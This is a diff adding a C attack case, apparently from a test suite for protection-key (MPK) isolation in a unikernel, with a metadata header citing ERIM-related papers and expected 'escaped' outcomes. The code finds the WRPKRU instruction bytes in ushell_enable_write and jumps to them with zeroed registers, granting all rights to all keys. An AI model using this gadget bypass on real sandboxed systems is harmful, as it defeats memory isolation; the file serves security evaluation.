@@ -1,0 +1,28 @@
+/*
+{
+  "title": "A jump to the WRPKRU of the gate that opens the window: all rights, of all keys, and no window that anybody knows of",
+  "precondition": "CR4.PKE = 1",
+  "reference": "Vahldiek-Oberwagner et al., ERIM: Secure, Efficient In-process Isolation with Protection Keys (MPK), USENIX Security 2019, section 3.2; Voulimeneas et al., You Shall Not (by)Pass! Practical, Secure, and Fast PKU-based Sandboxing, EuroSys 2022",
+  "cells": {
+    "none": {"outcome": "escaped", "rule": "I2", "event": "guardedAccess"},
+    "uio-mpk": {"outcome": "escaped", "rule": "I1", "event": "pkruWrite"}
+  }
+}
+*/
+#include "attack.h"
+
+// Where an instruction begins in code of the unikernel, which an extension can read: the first place from `start` on.
+static uint64_t find(const void *start, const char *bytes, unsigned length) {
+  for (const volatile uint8_t *at = start;; at++) {
+    unsigned same = 0;
+    while (same < length && at[same] == (uint8_t)bytes[same]) same++;
+    if (same == length) return (uint64_t)at;
+  }
+}
+
+int main(void) {
+  BYPASS_OF_KEYS(const uint64_t place = find((const void *)ushell_enable_write, "\x0f\x01\xef", 3);
+                 __asm__ volatile("call *%3" : : "a"(0), "c"(0), "d"(0), "r"(place) : "memory"));
+  GOAL_COUNT();
+  return 0;
+}
